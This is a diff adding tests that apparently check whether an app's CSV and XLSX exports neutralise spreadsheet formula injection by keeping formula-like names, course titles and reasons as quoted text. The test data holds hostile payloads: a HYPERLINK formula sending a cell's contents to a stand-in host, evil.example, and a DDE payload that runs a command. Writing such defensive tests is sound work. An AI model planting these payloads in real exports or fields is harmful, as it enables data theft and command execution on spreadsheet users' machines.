@@ -122,3 +122,60 @@ async def test_a_link_from_after_to_is_invalid_input(ann, clock):
     later = str(today + timedelta(days=1))
     assert await ann.error_code(query, {"f": later, "t": str(today)}) == "INVALID_INPUT"
     assert (await ann.data(query, {"f": str(today), "t": str(today)}))["exportLink"]["url"]
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
+
+
+async def _hostile_account(ann, support, client_factory):
+    """A learner, a course and a denial reason that each look like a formula."""
+    account = await create_account(ann, approvalMode="MANUAL")
+    await buy(ann, 1_000, "p")
+    learner = client_factory("eve@example.com", HOSTILE_NAME)
+    course = await upsert_course(support, "C-9", "+1+cmd|' /C calc'!A0", 150)
+    approved = await upsert_course(support, "C-8", "-2+3", 100)
+    denied = await redeem(learner, account["redemptionCode"], course["id"], "r1")
+    kept = await redeem(learner, account["redemptionCode"], approved["id"], "r2")
+    error_like = await upsert_course(support, "C-7", "#N/A", 50)
+    await redeem(learner, account["redemptionCode"], error_like["id"], "r3")  # stays pending
+    decide = "mutation(%s) { %s(input: {ids: $ids%s}) { errors { code } } }"
+    deny = decide % ("$ids: [ID!]!, $r: String", "denyRedemptions", ", reason: $r")
+    ids = {"ids": [denied["redemption"]["id"]], "r": "@SUM(1+1)\tx"}
+    assert (await ann.mutate("denyRedemptions", deny, ids))["errors"] == []
+    approve = decide % ("$ids: [ID!]!", "approveRedemptions", "")
+    ids = {"ids": [kept["redemption"]["id"]]}
+    assert (await ann.mutate("approveRedemptions", approve, ids))["errors"] == []
+
+
+async def test_text_that_looks_like_a_formula_stays_text_in_csv(ann, support, client_factory):
+    await _hostile_account(ann, support, client_factory)
+    rows = list(csv.DictReader(io.StringIO((await _get("/exports/redemptions.csv", ann)).text)))
+    assert {r["learner"] for r in rows} == {"'" + HOSTILE_NAME}
+    assert {r["course"] for r in rows} == {"'+1+cmd|' /C calc'!A0", "'-2+3", "#N/A"}
+    assert {r["reason"] for r in rows} == {"'@SUM(1+1)\tx", ""}
+    ledger = list(csv.DictReader(io.StringIO((await _get("/exports/transactions.csv", ann)).text)))
+    # A debit is a number, not text: it keeps its minus sign and no quote.
+    assert [r["credits"] for r in ledger] == ["1000", "-100"]
+    assert ledger[1]["course"] == "'-2+3"
+
+
+async def test_text_that_looks_like_a_formula_is_a_string_cell_in_xlsx(
+    ann, support, client_factory
+):
+    await _hostile_account(ann, support, client_factory)
+    response = await _get("/exports/redemptions.xlsx", ann)
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    header = [c.value for c in sheet[1]]
+    learners = [row[header.index("learner")] for row in sheet.iter_rows(min_row=2)]
+    assert [(c.value, c.data_type) for c in learners] == [("'" + HOSTILE_NAME, "s")] * 3
+    courses = {
+        (row[header.index("course")].value, row[header.index("course")].data_type)
+        for row in sheet.iter_rows(min_row=2)
+    }
+    # "#N/A" is the title, not an error value.
+    assert courses == {("'+1+cmd|' /C calc'!A0", "s"), ("'-2+3", "s"), ("#N/A", "s")}
+    ledger = openpyxl.load_workbook(
+        io.BytesIO((await _get("/exports/transactions.xlsx", ann)).content)
+    ).active
+    credits = [row[3] for row in ledger.iter_rows(min_row=2)]
+    assert [(c.value, c.data_type) for c in credits] == [(1000, "n"), (-100, "n")]
